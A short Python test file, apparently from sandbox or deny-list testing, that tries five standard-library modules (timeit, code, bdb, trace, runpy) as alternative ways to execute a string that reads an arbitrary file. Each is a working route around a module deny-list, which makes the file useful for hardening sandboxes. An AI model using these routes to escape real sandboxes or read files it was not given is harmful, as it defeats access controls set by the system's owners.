# Tries: the modules of the library whose work it is to run text: profilers, debuggers, timers, consoles.
# Origin: GTFOBins for Python; deny-lists of modules.

import bdb, code, timeit, trace, runpy, builtins

found = builtins.found = []
text = "found.append(open(input['file']).read())"
for run in (
    lambda: timeit.timeit(text, number=1, globals={"found": found, "input": input}),
    lambda: code.InteractiveInterpreter({"found": found, "input": input}).runsource(text),
    lambda: bdb.Bdb().run(text, {"found": found, "input": input}),
    lambda: trace.Trace(count=0, trace=0).runctx(text, {"found": found, "input": input}),
    lambda: found.append(runpy.run_path(input["python"])["word"]),
):
    try:
        run()
    except BaseException as error:
        found.append(repr(error))
found
